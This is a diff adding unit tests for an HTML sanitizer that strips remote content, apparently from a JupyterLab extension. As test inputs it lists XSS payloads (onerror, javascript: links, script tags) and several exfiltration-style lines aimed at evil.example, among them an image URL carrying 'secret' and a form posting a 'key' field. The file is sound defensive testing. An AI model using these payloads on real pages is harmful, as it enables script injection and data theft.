@@ -1,3 +1,4 @@
+import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
 import type { IRenderMime } from '@jupyterlab/rendermime';
 import { restyle } from '../../src/panel/allowedStyles';
 import { withoutRemoteContent } from '../../src/panel/sanitizer';
@@ -177,5 +178,49 @@ describe('asideTypesetter', () => {
     const { seen } = await typeset('<p>$x$</p><p>$\\def\\x{y}$</p><p>$z$</p>');
     expect(seen).toEqual(['$x$', '$z$']);
     expect(body.textContent).toBe('$x$$\\def\\x{y}$$z$');
+  });
+});
+
+describe('withoutRemoteContent', () => {
+  const { sanitize } = withoutRemoteContent(new Sanitizer());
+
+  it('makes links of pictures from elsewhere', () => {
+    const html = sanitize('<p>see <img src="https://evil.example/?q=secret" alt="a plot"></p>');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('>a plot</a>');
+  });
+
+  it.each([
+    '<img src="x" onerror="alert(1)">',
+    '<video poster="https://evil.example/p"></video>',
+    '<img srcset="https://evil.example/p 2x">',
+    '<script>alert(1)</script>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<iframe src="https://evil.example"></iframe>'
+  ])('leaves nothing that loads or runs in %s', dirty => {
+    expect(sanitize(dirty)).not.toMatch(/src|poster|script|onerror|iframe/i);
+  });
+
+  it.each([
+    '<button data-commandlinker-command="runmenu:run-all">Go on</button>',
+    '<form action="https://evil.example"><label>Go <input name="key"></label>on</form>',
+    '<select><option>Go on</option></select>',
+    '<p accesskey="s">Go on</p>'
+  ])('leaves only the words of %s', dirty => {
+    const html = sanitize(dirty);
+    expect(html).not.toMatch(/command|button|form|input|select|option|accesskey/i);
+    expect(html.replace(/<[^>]*>/g, '')).toBe('Go on');
+  });
+
+  it('leaves no style that loads something or covers something', () => {
+    const html = sanitize(
+      '<p style="color: red; background: url(https://evil.example/p); position: absolute; top: 0">x</p>'
+    );
+    expect(html).toBe('<p style="color: red;">x</p>');
+  });
+
+  it('keeps pictures that carry their content', () => {
+    const picture = '<img src="data:image/png;base64,AAAA" />';
+    expect(sanitize(picture)).toContain('data:image/png');
   });
 });
